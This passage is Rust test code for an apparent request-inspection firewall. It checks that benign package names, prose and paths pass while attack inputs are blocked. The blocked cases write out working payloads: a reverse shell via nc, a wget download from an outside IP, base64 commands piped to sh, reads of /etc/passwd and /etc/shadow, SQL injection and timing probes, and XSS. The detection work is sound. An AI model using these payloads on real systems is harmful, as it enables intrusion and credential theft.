    let engine = Config::default().compile().unwrap();
    let form = vec![
        ("host".to_string(), "api.example".to_string()),
        (
            "content-type".to_string(),
            "application/x-www-form-urlencoded".to_string(),
        ),
    ];
    let post = |body: &str| {
        engine.inspect(
            &Request::new("POST", "/api/packages")
                .with_headers(&form)
                .with_body(body.as_bytes()),
        )
    };
    for body in [
        "name=redis-cli&version=2.1.2",
        "name=ansible-vault",
        "package_name=tasklist",
        "title=new-object",
        "name=%40tsconfig%2Fnode21",
    ] {
        assert_eq!(post(body).verdict, Verdict::Allow, "{body}");
    }
    for body in [
        "name=%3Bid",
        "name=x%7Ccat%20/etc/passwd",
        "name=%24(id)",
        "name=bash%20-c%20id",
        "code=ansible-vault",
        "cmd=tasklist",
    ] {
        assert_eq!(post(body).verdict, Verdict::Block, "{body}");
    }
}

/// A tag named as a noun ("Inline <script> tags", "Vue SFC <style> blocks") and a word in
/// parentheses after a function's name where no query puts one ("database(s)", "the
/// Forecast Database (NDFD)") are prose; the tag with code or a closing tag, and the
/// function called as queries call it, count.
#[test]
fn named_tags_and_remarks_versus_markup_and_calls() {
    both_ways(
        &[
            "Inline <script> tags in HTML files.",
            "Programatically create <style> elements in the browser",
            "Automatically @reference your Tailwind CSS file in Vue SFC <style> blocks.",
            "Quart-DB provides managed connection(s) to database(s).",
            "Python Bindings to the NOAA National Digital Forecast Database (NDFD)",
        ],
        &[
            "<script> tag=1;alert(1)</script>",
            "<script>alert(1)</script>",
            "<script src=//evil.example/x.js> tag",
            "' union select database()--",
            "1 and ascii(substr(database(),1,1))>64",
        ],
    );
}

/// A body sent without a Content-Type (`requests.post(url, data="...")`, `curl --data-binary`
/// through a proxy that drops the header) is read as a form for the injection detectors, but
/// no application parses it as one: a piece without `=` is text, so a line ending in a newline
/// is no header-injecting field name (a newline in a value counts from paranoia 2). A JSON
/// document there is read as JSON, as servers that decode whatever arrives read it (a form
/// reading would cut `{"user":"x' or '7'='7"}` at its `=`). Attacks in such a body count, and
/// so does a newline in a name of a declared form.
#[test]
fn undeclared_bodies_are_text_declared_forms_have_names() {
    bodies_both_ways(
        None,
        &[
            "build 4512 finished\n",
            "status%3A%20green%0A",
            "deploy ok\r\n",
            "release notes: fixed the login page\n",
        ],
        &[
            "; wget http://203.0.113.9/k -O /tmp/k\n",
            "{\"user\":\"x' or '7'='7\"}",
            "[{\"cmd\":\"a;cat /etc/shadow\"}]",
            "x%3Becho%20aWQ%3D%20%7C%20base64%20-d%20%7C%20sh%0A",
            "<svg onload=alert(document.domain)>\n",
        ],
    );
    bodies_both_ways(
        Some("application/x-www-form-urlencoded"),
        &["status=green%0A"],
        &["status%0A=green"],
    );
}

/// A word that starts with `#` begins a shell comment: `| sh #` runs `sh` and leaves the
/// application's own arguments unrun, the usual tail of an injection. A `#` inside a word
/// (`C#`, a URL's fragment) comments nothing.
#[test]
fn shell_comments_end_the_command_line() {
    both_ways(
        &[
            "Bindings for C# and F# | see docs",
            "Docs at https://example.org/#/install; see the FAQ",
        ],
        &[
            "x | sh #",
            "1; echo cHdk | base64 -d | bash # trailing",
            "a && nc 203.0.113.9 4444 -e /bin/sh #",
        ],
    );
}

/// In a path, only a closed SQL call is unmistakable: a title's `(` (`/wiki/Sleep_(film`,
/// `/docs/benchmark(s`) opens nothing a query could finish. Closed calls count, as do the
/// other shapes.
#[test]
fn path_calls_count_once_closed() {
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "api.example".to_string())];
    let get = |path: &str| engine.inspect(&Request::new("GET", path).with_headers(&host));
    for path in ["/wiki/Sleep_(film", "/docs/benchmark(2019/results"] {
        assert_eq!(get(path).verdict, Verdict::Allow, "{path}: {:?}", get(path));
    }
    for path in [
        "/items/1%20and%20sleep(5)",
        "/items/benchmark(5000000,md5(1))",
        "/p/1'%20or%20'1'='1",
    ] {
        assert_eq!(get(path).verdict, Verdict::Block, "{path}: {:?}", get(path));
    }
}

/// A versioned interpreter followed by plain words names it ("Python3 bindings for libfoo",
/// a package summary's first words): a command line gives it a script, a path, an option or
/// code, and one word after it is a script run by name.
#[test]
fn versioned_interpreters_in_titles_versus_command_lines() {
    both_ways(
        &[
            "Python3 bindings for libfoo",
            "Node18 runtime helpers",
            "Perl5 module for parsing dates",
            "PHP8 extension for fast hashing",
        ],
        &[
            "python3 x.py",
            "python3 -c 'import os;os.system(\"id\")'",
            "perl5 -e 'print 1'",
            "ruby3.2 backdoor",
            "a; python3 evil run",
            "php8 /tmp/s.php",
        ],
    );
}
